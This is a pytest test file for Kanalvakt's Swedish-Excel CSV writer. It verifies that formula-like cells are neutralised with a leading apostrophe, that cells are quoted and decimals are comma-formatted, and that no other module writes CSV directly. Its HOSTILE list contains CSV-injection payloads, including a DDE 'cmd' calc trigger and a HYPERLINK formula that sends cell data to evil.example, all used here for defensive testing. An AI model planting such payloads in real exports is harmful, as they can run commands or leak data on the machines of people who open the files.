"""Every CSV Kanalvakt writes (core.csvfile): semicolons for Swedish Excel, every cell quoted, and a
visitor's text that a spreadsheet would run as a formula written with a leading apostrophe
(KAU-PUBLIC-RECORD: the record itself is kept as the visitor wrote it; only its CSV copy is
neutralised, and the JSON beside it holds the exact value)."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from core import csvfile

ROOT = Path(__file__).resolve().parents[2]

# OWASP's triggers, and the ones the issue names: each must come back from the file as text.
HOSTILE = [
    "=1+1",
    "  =cmd|' /C calc'!A0",
    "-2+3",
    "+46 70 123 45 67",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\u00a0=1",
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "\t",
]
HARMLESS = ["visitor;=1+1", "Åsa Öberg", "a=b", "1+1", "", "'=already quoted", 'say "hi"', "x\n=1"]


def read(data: bytes) -> list[list[str]]:
    """What a spreadsheet that reads semicolons (Swedish Excel) sees: cells split by ; outside quotes."""
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def is_formula(cell: str) -> bool:
    return cell[:1] in {"\t", "\r"} or cell.lstrip()[:1] in {"=", "+", "-", "@"}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_trigger_is_written_with_a_leading_apostrophe(value: str) -> None:
    (row,) = read(csvfile.csv_bytes([[value]]))
    assert row == ["'" + value]
    assert not is_formula(row[0])


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_written_exactly(value: str) -> None:
    (row,) = read(csvfile.csv_bytes([[value, "next"]]))
    assert row == [value, "next"]


def test_a_semicolon_inside_a_cell_does_not_start_a_new_cell() -> None:
    """The issue's case: ``visitor;=1+1`` unquoted in a comma file is two cells to Swedish Excel,
    the second a live formula."""
    data = csvfile.csv_bytes([["1", "visitor;=1+1", "@x"]])
    assert b'"visitor;=1+1"' in data
    (row,) = read(data)
    assert row == ["1", "visitor;=1+1", "'@x"]
    assert not any(is_formula(cell) for cell in row)


def test_every_cell_is_quoted_and_lines_end_in_crlf() -> None:
    data = csvfile.csv_bytes([["id", "name"], [1, "Åsa"], [None, True]])
    assert data.decode("utf-8") == '\ufeff"id";"name"\r\n"1";"Åsa"\r\n"";"true"\r\n'


def test_numbers_kanalvakt_computes_stay_numbers() -> None:
    """A count or a share Kanalvakt computed is written as a number, negative or not; the same
    characters typed by a visitor are text and neutralised."""
    (row,) = read(csvfile.csv_bytes([[-3, 0, 12, -2.5, 18.0, Decimal("-0.5"), float("nan"), "-3"]]))
    # Swedish Excel reads a decimal comma; a point would be read as a date or text.
    assert row == ["-3", "0", "12", "-2,5", "18,0", "-0,5", "", "'-3"]


def test_lists_and_mappings_are_written_as_json_text() -> None:
    (row,) = read(csvfile.csv_bytes([[[6, 2], {"b": "=x", "a": 1}, ["-1"]]]))
    assert row == ["[6, 2]", '{"a": 1, "b": "=x"}', '["-1"]']


def test_the_writer_streams_row_by_row_to_an_open_file(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csvfile.CsvWriter(handle)
        writer.writerow(["a", "=b"])
        writer.writerows([[1, "c"], [2, "-d"]])
    assert read(path.read_bytes()) == [["a", "'=b"], ["1", "c"], ["2", "'-d"]]


def test_no_other_module_writes_csv_itself() -> None:
    """One writer, one rule: outside core/csvfile.py (and the tests and the benchmark's bulk load),
    nothing calls csv.writer or csv.DictWriter, so no CSV can skip the neutralisation."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "bench", "var", "node_modules"}:
            continue
        if relative == Path("core/csvfile.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\b(csv\.writer|csv\.DictWriter|DictWriter\(|from csv import)", text):
            offenders.append(str(relative))
    assert offenders == []


def test_dates_are_swedish_and_instants_stockholm_wall_clock_time() -> None:
    from datetime import UTC, date, datetime

    assert csvfile.cell(date(2026, 3, 1)) == "2026-03-01"
    assert csvfile.cell(datetime(2026, 7, 1, 22, 30, tzinfo=UTC)) == "2026-07-02 00:30"
    with pytest.raises(ValueError, match="naive"):
        csvfile.cell(datetime(2026, 7, 1, 22, 30))
